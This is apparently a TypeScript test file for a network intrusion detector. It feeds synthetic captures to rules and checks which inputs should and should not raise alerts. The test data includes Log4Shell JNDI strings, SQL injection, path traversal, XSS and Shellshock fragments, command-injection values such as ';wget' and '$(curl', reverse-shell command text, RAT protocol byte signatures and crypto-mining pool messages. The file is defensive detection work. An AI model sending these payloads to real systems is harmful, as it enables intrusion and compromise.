// Attacks, shells, malware's own protocols and mining at their edges, in captures that the test makes.
import { edge } from '../testing/edges.ts';
import { MadeCapture, type MadeFlow, PEER, PROGRAM, type MadeRequest, type Turn } from '../testing/evidence-kit.ts';

const INSIDE = '10.0.0.9';
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

const asked = (request: MadeRequest, flow: MadeFlow = {}): MadeCapture =>
  new MadeCapture().http([{ response: { status: 404 }, ...request }], { to: INSIDE, ...flow });
const target = (text: string): MadeCapture => asked({ target: text });

edge('log4shell', 'a look-up in a request', (field: string) => asked({ fields: [`X-Name: ${field}`] }), {
  raises: ['${jndi:ldap://a.test/b}', '$%7bJNDI:', '${lower:j}', '${upper:j}', '${::-j}', '${${x}}'],
  not: ['${name}', '{jndi:ldap://a.test/b}', '$jndi', 'jndi:ldap://a.test'],
});
edge('log4shell', 'of the client', (request: MadeRequest) => asked(request), {
  raises: [{ target: '/?x=${jndi:ldap://a.test/b}' }, { method: 'POST', body: 'x=${jndi:ldap://a.test/b}' }],
  not: [{ response: { body: '${jndi:ldap://a.test/b}' } }],
});

edge('web-attack', 'paths out of the tree', target, {
  raises: ['/../../x', '/%2e%2e/%2e%2e/x', '/..%2f..%2fx', '/x?f=/etc/passwd', '/bin/bash', '/boot.ini'],
  not: ['/../x', '/a../b../c', '/etc/pass', '/bin/x', '/boot.html'],
});
edge('web-attack', 'questions to a database', target, {
  raises: [
    '/?x=1+union+select+2',
    '/?x=1%20UNION%20ALL%20SELECT',
    "/?x='or'1",
    '/?x=%27+and+1',
    '/?x=information_schema',
    '/?x=sleep(5',
    '/?x=waitfor',
  ],
  not: ['/?x=union+jack+select', "/?x='order", '/?x=%27brand+', '/?x=sleep(x', '/?x=schema'],
});
edge('web-attack', 'scripts for a page', target, {
  raises: ['/?x=<script>', '/?x=%3CscRipt', '/?x=javascript:', '/?x=onerror=a'],
  not: ['/?x=script', '/javascript/a', '/?x=onerrors'],
});
edge('web-attack', 'a function in a field', (agent: string) => asked({ agent }), {
  raises: ['() { :;}; /bin/id', '() {:;};', '(){ :; };'],
  not: ['() { return; }', '() { :;'],
});
edge('web-attack', 'a scanner’s agent', (agent: string) => asked({ agent }), {
  raises: ['sqlmap/1.7', `${BROWSER} Nikto`, 'zgrab/0.x'],
  not: [BROWSER, 'sqlite/3'],
});
edge('web-attack', 'a command in a target', target, {
  raises: [
    '/?x=1;wget+http://b',
    '/?x=%3b%20id',
    '/?x=`whoami`',
    '/?x=%60ls%60',
    '/?x=$(curl+b)',
    '/?x=%24%28cat+a',
    '/?x=;nc',
    '/?x=;bash',
    '/?x=;sh',
    '/?x=|bash',
    '/?x=%7c+wget',
    '/?x=|curl',
    '/?x=|whoami',
    '/?x=|sh',
    '/freemarker',
    '/?getRuntime',
    '/cgi-bin/.%2e/x',
    '/x/bin/sh',
    '/?%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74emplate',
    '/?x=%2fbin%2fbash',
  ],
  not: [
    '/?cmd=list',
    '/?exec=1&command=go',
    '/a;identity=1',
    '/ads;cat=top;id=3',
    '/a;category',
    '/a|id',
    '/shell',
    '/?x=catalog',
    '/?x=%66reemark',
  ],
});

for (const [what, of] of [
  ['a command', { target: '/?x=;id' }],
  ['a pattern', { target: '/../../x' }],
  ['a body’s pattern', { method: 'POST', target: '/', body: '() { :;};' }],
] as const)
  edge('web-attack-answered', `${what} with success`, (status: number) => asked({ ...of, response: { status } }), {
    raises: [200, 204, 299],
    not: [300, 302, 403, 404, 500],
  });
edge('web-attack-answered', 'a scanner says so itself', (agent: string) => asked({ agent }), {
  raises: ['sqlmap/1.7'],
  not: ['() { :;};'],
});
/** Two requests of one connection, of which the second is answered with success. */
function second(attack: 0 | 1): MadeCapture {
  const request = (i: number, status: number): MadeRequest => ({
    target: attack === i ? '/../../x' : '/',
    response: { status },
  });
  return new MadeCapture().http([request(0, 404), request(1, 200)], { to: INSIDE });
}
edge('web-attack-answered', 'the request that was answered', second, { raises: [1], not: [0] });

edge('java-class-over-http', 'how a class begins', (body: string) => asked({ response: { body } }), {
  raises: ['\xca\xfe\xba\xbe\0\0\0\x34'],
  not: ['\xca\xfe\xba\xbf\0\0\0\x34', '\xca\xfe\xba\xbe\0\0\x01\x34', 'CAFEBABE'],
});
edge('java-class-over-http', 'from the server', (sent: MadeRequest) => asked(sent), {
  raises: [{ response: { body: '\xca\xfe\xba\xbe\0\0\0\x34' } }],
  not: [{ method: 'POST', body: '\xca\xfe\xba\xbe\0\0\0\x34' }],
});

function talk(turns: readonly Turn[], flow: MadeFlow = {}): MadeCapture {
  return new MadeCapture().connection(turns, { to: INSIDE, port: 5_555, ...flow });
}
const says = (dir: 0 | 1, data: string): Turn => ({ dir, data });
const NO_SHELL_PORTS = [22, 23, 25, 110, 143, 21, 445, 139] as const;

edge('shell-text', 'a command that the peer begins with', (text: string) => talk([says(1, text)]), {
  raises: [
    'id\n',
    'id-',
    'pwd\n',
    'ls -l\n',
    'whoami\r\n',
    'cat a',
    'uname -a',
    'cd /tmp',
    'ipconfig\n',
    'dir ',
    'net user\n',
    'systeminfo\n',
    'hostname\n',
  ],
  not: ['identity\n', 'id', ' id\n', '220 ready id\n', 'ID\n', 'net use\n', 'cats\n'],
});
edge('shell-text', 'the peer, and not the initiator', (dir: 0 | 1) => talk([says(dir, 'whoami\n')]), {
  raises: [1],
  not: [0],
});
edge('shell-text', 'what a shell answers', (text: string) => talk([says(0, text)]), {
  raises: ['uid=0(root) gid=0(root)\n', 'x\nMicrosoft Windows [Version 10', 'Windows PowerShell\r\nCopyright'],
  not: ['uid=0 gid=0\n', 'uid=x(root) gid=0', `uid=0(${'r'.repeat(21)}) gid=0`, 'Microsoft Windows 10'],
});
edge('shell-text', 'in the first 3,000 bytes', (n: number) => talk([says(0, `${'x'.repeat(n)}uid=0(root) gid=`)]), {
  raises: [2_984],
  not: [2_985],
});
edge('shell-text', 'commands on ports where text is none', (port: number) => talk([says(1, 'id\n')], { port }), {
  raises: [4_444, 24, 80],
  not: [...NO_SHELL_PORTS],
});
edge(
  'shell-text',
  'answers on ports where text is none',
  (port: number) => talk([says(0, 'uid=0(a) gid=')], { port }),
  { raises: [4_444, 24], not: [...NO_SHELL_PORTS] },
);
edge('shell-text', 'in no other protocol', (before: string) => talk([says(0, `${before}uid=0(root) gid=0\n`)]), {
  raises: ['', 'words '],
  not: ['GET / HTTP/1.1\r\nHost: a.test\r\nX: ', 'SSH-2.0-x '],
});

const ZLIB = '\x78\x9c';
const first = (data: string, flow: MadeFlow = {}): MadeCapture => talk([says(0, data)], flow);
edge('known-rat-bytes', 'Ramnit’s first bytes', first, {
  raises: ['\x00\xff\x4b\x00\x00\x00\x11', '\x00\xff\x00\x00\x00\x00'],
  not: ['\x00\xff\x4b\x00\x00\x01', '\x01\xff\x4b\x00\x00\x00', 'x\x00\xff\x4b\x00\x00\x00'],
});
edge('known-rat-bytes', 'NetWire’s length, and as many bytes', first, {
  raises: [`\x41\x00\x00\x00\x03${'k'.repeat(64)}`, `\x3f\x00\x00\x00\x99${'k'.repeat(62)}`],
  not: [
    `\x41\x00\x00\x00\x03${'k'.repeat(63)}`,
    `\x3e\x00\x00\x00\x03${'k'.repeat(64)}`,
    `\x46\x00\x00\x00\x03${'k'.repeat(80)}`,
    `\x41\x00\x00\x00\x04${'k'.repeat(64)}`,
  ],
});
edge('known-rat-bytes', 'words of STRRAT and Turkojan', first, {
  raises: ['ping|STRRAT|1.2', 'amsBAGLANTI?', 'ANABILGI', `${'x'.repeat(18)}STRRAT`],
  not: ['ping|RAT|1.2', 'baglanti', `${'x'.repeat(19)}STRRAT`],
});
edge('known-rat-bytes', 'njRAT’s length and separator', first, {
  raises: ['149\x00ll|abc', "1inf'abc", "lv|'|'|abc", `${'x'.repeat(8)}|'|'|`, "''|x"],
  not: ['12345678\x00ll|abc', '149\x00xx|abc', `${'x'.repeat(9)}|'|'|`, "lv|'|abc", "''|"],
});
const gh0st = (length: number, word = 'Gh0st'): string =>
  `${word}${String.fromCharCode(length)}\x00\x00\x00\x20\x00\x00\x00${ZLIB}${'d'.repeat(27)}`;
edge('known-rat-bytes', 'Gh0st’s word, lengths and stream', first, {
  raises: [gh0st(42), gh0st(15), `aaaaabbbbb\x00\x00\x00\x2a\xe0\x00\x00\x00${ZLIB}${'d'.repeat(22)}`],
  not: [gh0st(43), gh0st(14), gh0st(42, 'Gh0s'), gh0st(42).replace('\x9c', '\x9d'), gh0st(40, 'Gh0s\x1f')],
});
edge('known-rat-bytes', 'Remcos’ first bytes', first, {
  raises: ['[DataStart]', '\x24\x04\xff\x00'],
  not: ['[DataStart', 'x[DataStart]', '\x24\x04\xff\x01'],
});
edge('known-rat-bytes', 'no header of Zabbix', first, { raises: ["ZBX|'|'|"], not: ["ZBXD|'|'|"] });
edge('known-rat-bytes', 'what the initiator sends', (dir: 0 | 1) => talk([says(dir, '[DataStart]')]), {
  raises: [0],
  not: [1],
});
edge('known-rat-bytes', 'in no other protocol', first, {
  raises: ["x|'|'| / HTTP/1.1\r\n\r\n"],
  not: ["GET /|'|'| HTTP/1.1\r\nHost: a.test\r\n\r\n", "SSH-2.0-|'|'|\r\n"],
});

const raw = (data: string, flow: MadeFlow = {}): MadeCapture =>
  talk([says(0, 'give'), says(1, data)], { to: PEER, ...flow });
edge('exe-raw', 'a program', raw, { raises: [PROGRAM, `words ${PROGRAM}`], not: ['MZ, as this text begins'] });
edge('exe-raw', 'from outside', (to: string) => raw(PROGRAM, { to }), { raises: [PEER], not: [INSIDE] });
edge('exe-raw', 'no port of files', (port: number) => raw(PROGRAM, { port }), {
  raises: [5_555, 446],
  not: [445, 139, 20],
});
edge('exe-raw', 'received and not sent', (dir: 0 | 1) => talk([says(dir, PROGRAM)], { to: PEER }), {
  raises: [1],
  not: [0],
});
edge(
  'exe-raw',
  'no protocol of files',
  (opening: string) => {
    return talk([says(1, `${opening}\r\n`), says(0, 'give me\r\n'), says(1, PROGRAM)], { to: PEER });
  },
  { raises: ['words'], not: ['220 files.test FTP server ready', 'HTTP/1.1 200 OK\r\n'] },
);

const mined = (asks: string, answers = 'x'): MadeCapture => talk([says(0, `${asks}\n`), says(1, answers)]);
const method = (name: string): string => `{"id":1,"method": "${name}","params":[]}`;
edge('mining-protocol', 'methods of pools, and names of miners', mined, {
  raises: [
    method('mining.subscribe'),
    method('eth_submitWork'),
    method('eth_getWork'),
    '{"method":"mining.authorize"}',
    '{"agent":"XMRig/6"}',
    'NiceHash/1',
  ],
  not: [method('mine'), method('eth_call'), 'xmrig', '"mining.subscribe"'],
});
edge('mining-protocol', 'a login with a wallet', mined, {
  raises: ['{"method":"login","params":{"login":"4abc"}}', '{"method":"login", "params": { "login":"4abc"}}'],
  not: ['{"method":"login","params":{"user":"a"}}', '{"method":"login","params":["login"]}'],
});
edge('mining-protocol', 'a job for an answer', (answer: string) => mined('{"method":"submit","params":[]}', answer), {
  raises: ['{"jsonrpc":"2.0","result":{"job":{'],
  not: ['{"jsonrpc":"2.0","result":{"jobs":{', '{"jsonrpc":"2.0","result":"ok"}'],
});
edge('mining-protocol', 'said by the initiator', (dir: 0 | 1) => talk([says(dir, method('mining.notify'))]), {
  raises: [0],
  not: [1],
});
edge('mining-protocol', 'in the first 2,000 bytes', (n: number) => mined(`${'x'.repeat(n)}NiceHash`), {
  raises: [1_992],
  not: [1_993],
});
